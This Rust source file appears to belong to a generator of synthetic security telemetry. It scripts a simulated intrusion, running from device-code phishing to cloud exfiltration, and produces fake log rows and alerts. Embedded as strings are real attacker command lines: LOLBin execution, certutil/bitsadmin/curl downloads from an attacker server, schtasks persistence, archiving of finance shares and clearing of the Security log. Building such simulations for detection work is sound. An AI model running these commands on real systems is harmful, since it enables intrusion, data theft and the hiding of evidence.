//! The variant: another chain, on other surfaces, with what every machine has on board.
//!
//! A code for a device instead of a stolen page, a mail from a colleague instead of a stranger's, no
//! script host and no dump of credentials: tickets instead, a remote shell, an archive that goes to a
//! store in the cloud. No rule is written for it in advance. Which of the system's own programs are
//! abused is drawn from the seed, as is the order of two pairs of stages.

use model::{EntityKind, Ticks};

use crate::attack::hands::{
    Running, Session, alert_id, call_host, file_of, involve_seat, new_file, remote_shell, spawn,
    spawn_named, take_seat,
};
use crate::attack::kit::Kit;
use crate::attack::plan::Intrusion;
use crate::attack::story::raise;
use crate::background::desk::{start, start_browser};
use crate::background::mail::{draft, mailbox};
use crate::notes::{Name, name};
use crate::people::{Device, Person};
use crate::record::Woven;
use crate::rows::cloud::Activity;
use crate::rows::device_event::About;
use crate::rows::email::{Known, Mail, Mailbox};
use crate::rows::endpoint::Process;
use crate::rows::identity::{DirectoryLogon, Manner, Search, SignIn};
use crate::rows::report::{Evidence, Report};
use crate::stage::Stage;
use crate::stream::Script;

/// A stage of the variant.
#[derive(Clone, Copy, Debug)]
enum Step {
    Lure,
    DeviceCode,
    MailboxSearch,
    InsideLure,
    OnBoard,
    Fetch,
    Task,
    Tickets,
    RemoteShell,
    Archive,
    Upload,
    ClearLog,
}

impl Step {
    const fn name(self) -> Name {
        match self {
            Self::Lure => name("device-code-lure", "InitialAccess", "T1566.002"),
            Self::DeviceCode => name("device-code-sign-in", "CredentialAccess", "T1528"),
            Self::MailboxSearch => name("mailbox-search", "Collection", "T1114.002"),
            Self::InsideLure => name("internal-phishing", "LateralMovement", "T1534"),
            Self::OnBoard => name("system-binary", "DefenseEvasion", "T1218"),
            Self::Fetch => name("system-download", "CommandAndControl", "T1105"),
            Self::Task => name("scheduled-task", "Persistence", "T1053.005"),
            Self::Tickets => name("kerberoasting", "CredentialAccess", "T1558.003"),
            Self::RemoteShell => name("remote-shell", "LateralMovement", "T1021.006"),
            Self::Archive => name("archive", "Collection", "T1560.001"),
            Self::Upload => name("cloud-exfiltration", "Exfiltration", "T1567.002"),
            Self::ClearLog => name("log-clearing", "DefenseEvasion", "T1070.001"),
        }
    }

    /// How long the next stage waits, in seconds.
    const fn wait(self) -> (u64, u64) {
        match self {
            Self::Lure | Self::InsideLure => (180, 2_400),
            Self::DeviceCode | Self::MailboxSearch => (300, 2_700),
            Self::OnBoard => (20, 300),
            Self::Fetch | Self::Archive | Self::Upload => (120, 1_500),
            Self::Task | Self::Tickets | Self::RemoteShell => (300, 2_400),
            Self::ClearLog => (0, 0),
        }
    }
}

/// The script of one variant.
#[derive(Debug)]
pub(crate) struct Variant {
    at: usize,
    steps: Vec<Step>,
    due: Option<Ticks>,
    session: Option<Session>,
    cloud_session: String,
    /// What was run first, the implant it brought, and the shell on the server.
    first: Option<Running>,
    implant: Option<Running>,
    shell: Option<Running>,
    archive: String,
}

impl Variant {
    pub(crate) fn new(at: usize, plan: &Intrusion) -> Self {
        use Step::{
            Archive, ClearLog, DeviceCode, Fetch, InsideLure, Lure, MailboxSearch, OnBoard,
            RemoteShell, Tickets, Upload,
        };
        let mut steps = vec![
            Lure,
            DeviceCode,
            MailboxSearch,
            InsideLure,
            OnBoard,
            Fetch,
            Step::Task,
            Tickets,
            RemoteShell,
            Archive,
            Upload,
            ClearLog,
        ];
        if plan.kit.flavour(0, 2) == 0 {
            steps.swap(6, 7);
        }
        if plan.kit.flavour(1, 2) == 0 {
            steps.swap(2, 3);
        }
        // Played from the end.
        steps.reverse();
        Self {
            at,
            steps,
            due: Some(plan.begin),
            session: None,
            cloud_session: String::new(),
            first: None,
            implant: None,
            shell: None,
            archive: String::new(),
        }
    }
}

impl Script for Variant {
    fn name(&self) -> String {
        format!("intrusion {}", self.at)
    }

    fn due(&self) -> Option<Ticks> {
        self.due
    }

    fn play(&mut self, stage: &mut Stage<'_>) {
        let world = stage.world;
        let (Some(at), Some(step), Some(plan)) = (
            self.due,
            self.steps.pop(),
            world.plan.intrusions.get(self.at),
        ) else {
            self.due = None;
            return;
        };
        stage.room = u64::MAX;
        stage.note(Woven::Stage(self.at), step.name(), at);
        let end = match step {
            Step::Lure => lure(stage, plan, at),
            Step::DeviceCode => self.device_code(stage, plan, at),
            Step::MailboxSearch => self.mailbox_search(stage, plan, at),
            Step::InsideLure => Self::inside_lure(stage, plan, at),
            Step::OnBoard => self.on_board(stage, plan, at),
            Step::Fetch => self.fetch(stage, plan, at),
            Step::Task => self.task(stage, plan, at),
            Step::Tickets => self.tickets(stage, plan, at),
            Step::RemoteShell => self.remote_shell(stage, plan, at),
            Step::Archive => self.archive(stage, plan, at),
            Step::Upload => self.upload(stage, plan, at),
            Step::ClearLog => self.clear_log(stage, plan, at),
        };
        stage.close_note();
        let (low, high) = step.wait();
        self.due =
            (!self.steps.is_empty()).then(|| stage.dice.after(end, low * 1_000, high * 1_000));
    }
}

/// A stranger's mail with a code and a link to the honest page where codes are typed in.
fn lure<'w>(stage: &mut Stage<'w>, plan: &'w Intrusion, at: Ticks) -> Ticks {
    let (campaign, victim) = (&plan.kit.campaign, stage.person(plan.victim));
    let recipient = mailbox(victim);
    let code = stage.dice.hex(8).to_ascii_uppercase();
    let mail = Mail {
        direction: "Inbound",
        sender: Mailbox {
            address: &campaign.sender.1,
            display: &campaign.sender.0,
            object_id: "",
        },
        sender_domain: &campaign.sender_domain,
        sender_ip: &campaign.sender_ip,
        recipient_domain: &stage.tenant.spec.mail_domain,
        subject: format!("{} (meeting code {code})", plan.kit.subject),
        urls: vec![(
            "https://login.cloudsuite.example/device".to_owned(),
            "login.cloudsuite.example",
        )],
        known: Known {
            first_contact: Some(true),
            ..Known::default()
        },
        ..draft(stage, recipient)
    };
    stage.mail(at, &mail);
    stage.involve(EntityKind::MailMessage, &mail.id);
    stage.involve(EntityKind::Mailbox, &campaign.sender.1);
    stage.involve(EntityKind::Account, &victim.upn);
    stage.involve(EntityKind::Ip, &campaign.sender_ip);
    at
}

/// In the cloud.
impl Variant {
    fn device_code<'w>(&mut self, stage: &mut Stage<'w>, plan: &'w Intrusion, at: Ticks) -> Ticks {
        self.cloud_session = stage.dice.guid();
        let (kit, victim) = (&plan.kit, stage.person(plan.victim));
        let mut sign_in = SignIn {
            person: victim,
            device: stage.device(victim.device),
            ip: &kit.from.ip,
            application: "Microsoft Authentication Broker",
            application_id: "29d9ed98-a469-4536-ade2-f981bc1d605e",
            session: &self.cloud_session,
            error: 0,
            manner: Some(Manner {
                from: &kit.from,
                risk: 0,
                risk_types: "",
                endpoint_call: "OAuth2:DeviceCode",
                asked_twice: false,
            }),
        };
        stage.signed_in(at, &sign_in);
        let mut now = stage.dice.after(at, 2_000, 30_000);
        sign_in.application = "Office 365 Exchange Online";
        sign_in.application_id = "00000002-0000-0ff1-ce00-000000000000";
        stage.signed_in(now, &sign_in);
        now = stage.dice.after(now, 900, 9_000);
        stage.cloud_logon(now, victim, &kit.from);
        self.involve_cloud(stage, kit, victim);
        now
    }

    fn mailbox_search<'w>(&self, stage: &mut Stage<'w>, plan: &'w Intrusion, at: Ticks) -> Ticks {
        let (kit, victim) = (&plan.kit, stage.person(plan.victim));
        let mut now = at;
        for number in 0..stage.dice.between(12, 30) {
            let action = if number % 6 == 0 {
                "SearchQueryInitiatedExchange"
            } else {
                "MailItemsAccessed"
            };
            let activity = Activity {
                person: victim,
                ip: &kit.from.ip,
                action,
                application: "Microsoft Exchange Online",
                application_id: 20_893,
                object: victim.upn.clone(),
                object_type: "Mailbox",
                session: self.cloud_session.clone(),
                admin: false,
                from: Some(&kit.from),
                detail: String::new(),
                oauth_app: None,
                names_session: true,
            };
            stage.cloud_activity(now, &activity);
            now = stage.dice.after(now, 2_000, 40_000);
        }
        self.involve_cloud(stage, kit, victim);
        stage.involve(EntityKind::Mailbox, &victim.upn);
        now
    }

    fn inside_lure<'w>(stage: &mut Stage<'w>, plan: &'w Intrusion, at: Ticks) -> Ticks {
        let (kit, victim) = (&plan.kit, stage.person(plan.victim));
        let second = stage.person(plan.second);
        let recipient = mailbox(second);
        let domain = &stage.tenant.spec.mail_domain;
        let mail = Mail {
            direction: "Intra-org",
            sender: mailbox(victim),
            sender_domain: domain,
            sender_ip: &kit.from.ip,
            recipient_domain: domain,
            subject: format!("Re: {}", kit.subject),
            urls: vec![(kit.link.clone(), &kit.campaign.lure.0)],
            ..draft(stage, recipient)
        };
        stage.mail(at, &mail);
        let now = stage.dice.after(at, 90_000, 900_000);
        stage.url_clicked(now, &mail.id, &second.upn, &kit.link);
        stage.involve(EntityKind::Account, &victim.upn);
        stage.involve(EntityKind::Ip, &kit.from.ip);
        stage.involve(EntityKind::Account, &second.upn);
        stage.involve(EntityKind::MailMessage, &mail.id);
        stage.involve(EntityKind::Url, &kit.link);
        now
    }

    fn involve_cloud(&self, stage: &mut Stage<'_>, kit: &Kit, victim: &Person) {
        stage.involve(EntityKind::Account, &victim.upn);
        stage.involve(EntityKind::Ip, &kit.from.ip);
        stage.involve(EntityKind::Session, &self.cloud_session);
    }
}

/// On the colleague's machine.
impl Variant {
    fn on_board<'w>(&mut self, stage: &mut Stage<'w>, plan: &'w Intrusion, at: Ticks) -> Ticks {
        let kit = &plan.kit;
        let seat = take_seat(stage, plan.second, &mut self.session, at);
        involve_seat(stage, &seat);
        let mut now = seat.ready.max(at);
        let browser = stage.aside(|stage| start_browser(stage, &seat, now));
        now = stage.dice.after(now, 900, 9_000);
        let lure = &kit.campaign.lure;
        now = call_host(stage, seat.at, &browser, (&lure.0, &lure.1), &kit.link, now);
        let stem = stage.dice.hex(6);
        let downloads = format!(r"C:\Users\{}\Downloads", seat.person.account.name);
        let (program, extension, command) = match kit.flavour(2, 3) {
            0 => {
                let file = format!(r"{downloads}\{stem}.hta");
                let command = format!("\"C:\\Windows\\System32\\mshta.exe\" \"{file}\"");
                ("mshta.exe", "hta", command)
            }
            1 => {
                let command = format!("regsvr32.exe /s \"{downloads}\\{stem}.ocx\"");
                ("regsvr32.exe", "ocx", command)
            }
            _ => {
                let command = format!("rundll32.exe \"{downloads}\\{stem}.dll\",Start");
                ("rundll32.exe", "dll", command)
            }
        };
        let name = format!("{stem}.{extension}");
        let file = new_file(&mut stage.dice, name, &downloads, (9_000, 400_000));
        now = stage.dice.after(now, 900, 9_000);
        stage.file_touched(
            now,
            seat.at,
            &browser,
            "FileCreated",
            &file,
            Some(&kit.link),
        );
        now = stage.dice.after(now, 3_000, 60_000);
        let program = stage.world.programs.named(program);
        let run = start(stage, &seat, &seat.shell.clone(), program, command, now);
        now = stage.dice.after(now, 300, 4_000);
        let server = &kit.campaign.server;
        let url = format!("https://{}/{stem}", server.0);
        now = call_host(stage, seat.at, &run, (&server.0, &server.1), &url, now);
        self.first = Some(Running::of(&run));
        stage.involve(EntityKind::File, &file.sha256);
        stage.involve(EntityKind::Ip, &server.1);
        stage.involve(EntityKind::Url, &kit.link);
        now
    }

    fn fetch<'w>(&mut self, stage: &mut Stage<'w>, plan: &'w Intrusion, at: Ticks) -> Ticks {
        let (kit, second) = (&plan.kit, stage.person(plan.second));
        let Some(first) = &self.first else { return at };
        let named = match kit.flavour(2, 3) {
            0 => "mshta.exe",
            1 => "regsvr32.exe",
            _ => "rundll32.exe",
        };
        let mut first = first.process(stage.world.programs.named(named), &second.account);
        first.elevated = false;
        let (device, server, path) = (second.device, &kit.campaign.server, &kit.implant.path);
        let url = format!(
            "https://{}/{}.dat",
            server.0,
            kit.flavour(3, 90_000) + 1_000
        );
        let (file, command) = match kit.flavour(4, 3) {
            0 => (
                "certutil.exe",
                format!("certutil.exe -urlcache -split -f {url} {path}"),
            ),
            1 => (
                "bitsadmin.exe",
                format!("bitsadmin /transfer upd /priority foreground {url} {path}"),
            ),
            _ => ("curl.exe", format!("curl.exe -s -o {path} {url}")),
        };
        let shell = format!("cmd.exe /c {command}");
        let shell = spawn_named(stage, device, &first, "cmd.exe", shell, at);
        let mut now = stage.dice.after(at, 20, 300);
        let fetcher = spawn_named(stage, device, &shell, file, command, now);
        now = stage.dice.after(now, 100, 900);
        now = call_host(stage, device, &fetcher, (&server.0, &server.1), &url, now);
        now = stage.dice.after(now, 300, 4_000);
        let brought = file_of(&kit.implant);
        stage.file_touched(now, device, &fetcher, "FileCreated", &brought, None);
        now = stage.dice.after(now, 900, 9_000);
        let command = format!("\"{path}\"");
        let implant = spawn(stage, device, &shell, &kit.implant, command, now);
        self.implant = Some(Running::of(&implant));
        stage.involve(EntityKind::Device, &stage.device(device).id);
        stage.involve(EntityKind::Account, &second.upn);
        stage.involve(EntityKind::File, &kit.implant.sha256);
        stage.involve(EntityKind::Ip, &server.1);
        now
    }

    /// The implant of earlier scenes.
    fn implant<'w>(&self, kit: &'w Kit, second: &'w Person) -> Option<Process<'w>> {
        let running = self.implant.as_ref()?;
        Some(running.process(&kit.implant, &second.account))
    }

    fn task<'w>(&self, stage: &mut Stage<'w>, plan: &'w Intrusion, at: Ticks) -> Ticks {
        let (kit, second) = (&plan.kit, stage.person(plan.second));
        let Some(implant) = self.implant(kit, second) else {
            return at;
        };
        let device = second.device;
        let stem = kit.implant.file.trim_end_matches(".exe");
        let name = format!(r"\{stem}Task{}", kit.flavour(5, 90) + 10);
        let command = format!(
            "schtasks.exe /create /f /sc {} /tn \"{name}\" /tr \"{}\"",
            match kit.flavour(6, 3) {
                0 => "minute /mo 30",
                1 => "onlogon",
                _ => "hourly",
            },
            kit.implant.path
        );
        let maker = spawn_named(stage, device, &implant, "schtasks.exe", command, at);
        let now = stage.dice.after(at, 40, 600);
        task_created(stage, device, &maker, &name, now);
        stage.involve(EntityKind::Device, &stage.device(device).id);
        stage.involve(EntityKind::Account, &second.upn);
        stage.involve(EntityKind::File, &kit.implant.sha256);
        now
    }

    fn tickets<'w>(&self, stage: &mut Stage<'w>, plan: &'w Intrusion, at: Ticks) -> Ticks {
        const SERVICES: &[&str] = &[
            "MSSQLSvc",
            "HTTP",
            "ipp",
            "exchangeAB",
            "backup",
            "FIMService",
            "CmRcService",
        ];
        let (kit, second) = (&plan.kit, stage.person(plan.second));
        let device = stage.device(second.device);
        let search = Search {
            action: "LDAP query",
            kind: "AllServicePrincipalNames",
            target: "",
            query: "(&(objectCategory=user)(servicePrincipalName=*))",
            protocol: "Ldap",
        };
        stage.directory_search(at, second, device, &search);
        let mut now = stage.dice.after(at, 900, 9_000);
        let servers = stage.tenant.servers();
        for service in SERVICES
            .iter()
            .take(4 + usize::try_from(kit.flavour(7, 4)).unwrap_or(0))
        {
            let target: &Device = stage.dice.pick(servers);
            let additional = format!(
                "\"Spns\":\"{service}/{}\",\"EncryptionType\":\"Rc4Hmac\",\"Count\":1",
                target.name
            );
            let logon = DirectoryLogon {
                person: second,
                from: device,
                target,
                protocol: "Kerberos",
                kind: "Resource access",
                additional: &additional,
                failure: None,
            };
            stage.directory_logon(now, &logon);
            now = stage.dice.after(now, 60, 1_500);
        }
        stage.involve(EntityKind::Account, &second.upn);
        let id = alert_id(&mut stage.dice, "aa");
        let time = stage.dice.after(now, 120_000, 900_000);
        let report = Report {
            id: &id,
            title: "Suspected Kerberos SPN exposure",
            category: "CredentialAccess",
            severity: "High",
            source: "Microsoft Defender for Identity",
            detection: "Microsoft Defender for Identity",
            technique: "Kerberoasting (T1558.003)",
            group: device.group,
            evidence: vec![
                Evidence::User(second, Some(device)),
                Evidence::Machine(device),
            ],
        };
        raise(stage, self.at, time, &report);
        now
    }
}

/// On the server.
impl Variant {
    fn remote_shell<'w>(&mut self, stage: &mut Stage<'w>, plan: &'w Intrusion, at: Ticks) -> Ticks {
        let (kit, second) = (&plan.kit, stage.person(plan.second));
        let admin = stage.person(plan.admin);
        let from = stage.device(plan.second);
        let Some(implant) = self.implant(kit, second) else {
            return at;
        };
        let machines = (plan.second, plan.target);
        let (host, opened) = remote_shell(stage, &implant, machines, admin, at);
        let now = stage.dice.after(opened, 900, 20_000);
        spawn_named(
            stage,
            plan.target,
            &host,
            "whoami.exe",
            "whoami.exe /groups",
            now,
        );
        self.shell = Some(Running::of(&host));
        Self::involve_server(stage, plan);
        stage.involve(EntityKind::Device, &from.id);
        now
    }

    /// The shell on the server.
    fn shell<'w>(&self, stage: &Stage<'w>, plan: &Intrusion) -> Option<Process<'w>> {
        let running = self.shell.as_ref()?;
        let program = stage.world.programs.named("wsmprovhost.exe");
        let mut shell = running.process(program, &stage.person(plan.admin).account);
        shell.session = 0;
        Some(shell)
    }

    fn archive<'w>(&mut self, stage: &mut Stage<'w>, plan: &'w Intrusion, at: Ticks) -> Ticks {
        let Some(shell) = self.shell(stage, plan) else {
            return at;
        };
        let stem = stage.dice.hex(8);
        let password = stage.dice.hex(12);
        let folder = r"C:\ProgramData\Cache";
        let file = new_file(
            &mut stage.dice,
            format!("{stem}.7z"),
            folder,
            (80_000_000, 900_000_000),
        );
        let command = format!(
            "\"C:\\Program Files\\7-Zip\\7z.exe\" a -mx1 -mhe=on -p{password} {} D:\\Shares\\Finance D:\\Shares\\Legal",
            file.path
        );
        let packer = spawn_named(stage, plan.target, &shell, "7z.exe", command, at);
        let now = stage.dice.after(at, 40_000, 400_000);
        stage.file_touched(now, plan.target, &packer, "FileCreated", &file, None);
        stage.involve(EntityKind::File, &file.sha256);
        Self::involve_server(stage, plan);
        self.archive = file.path;
        now
    }

    fn upload<'w>(&self, stage: &mut Stage<'w>, plan: &'w Intrusion, at: Ticks) -> Ticks {
        let Some(shell) = self.shell(stage, plan) else {
            return at;
        };
        let (helper, store) = (&plan.kit.helper, &plan.kit.campaign.store);
        let file = file_of(helper);
        stage.file_touched(at, plan.target, &shell, "FileCreated", &file, None);
        let mut now = stage.dice.after(at, 900, 9_000);
        let command = format!(
            "{} copy {} box:in --transfers 8 --no-check-certificate -q",
            helper.path, self.archive
        );
        let sender = spawn(stage, plan.target, &shell, helper, command, now);
        let url = format!("https://{}", store.0);
        for _ in 0..stage.dice.between(8, 20) {
            now = stage.dice.after(now, 2_000, 30_000);
            now = call_host(stage, plan.target, &sender, (&store.0, &store.1), &url, now);
        }
        stage.involve(EntityKind::File, &helper.sha256);
        stage.involve(EntityKind::Ip, &store.1);
        stage.involve(EntityKind::Url, &url);
        Self::involve_server(stage, plan);
        now
    }

    fn clear_log<'w>(&self, stage: &mut Stage<'w>, plan: &'w Intrusion, at: Ticks) -> Ticks {
        let Some(shell) = self.shell(stage, plan) else {
            return at;
        };
        let clear = "wevtutil.exe cl Security";
        let by = spawn_named(stage, plan.target, &shell, "wevtutil.exe", clear, at);
        let now = stage.dice.after(at, 20, 200);
        let about = About {
            account: Some(shell.account),
            additional: "{\"ChannelName\":\"Security\"}",
            ..About::default()
        };
        stage.device_event(now, plan.target, &by, "SecurityLogCleared", &about);
        Self::involve_server(stage, plan);
        now
    }

    fn involve_server(stage: &mut Stage<'_>, plan: &Intrusion) {
        stage.involve(EntityKind::Device, &stage.device(plan.target).id);
        stage.involve(EntityKind::Account, &stage.person(plan.admin).upn);
    }
}

/// The rows of a task of the scheduler that `by` made.
pub(crate) fn task_created(
    stage: &mut Stage<'_>,
    device: usize,
    by: &Process<'_>,
    name: &str,
    at: Ticks,
) {
    let mut additional = String::from("{\"TaskName\":");
    crate::text::push_text(&mut additional, name);
    additional.push('}');
    let about = About {
        account: Some(by.account),
        additional: &additional,
        ..About::default()
    };
    stage.device_event(at, device, by, "ScheduledTaskCreated", &about);
    let service = stage.system_process(device, "svchost.exe", "services.exe");
    let key = format!(
        r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree{name}"
    );
    let id = format!("{{{}}}", stage.dice.guid().to_ascii_uppercase());
    stage.registry_set(at, device, &service, &key, "Id", &id);
}
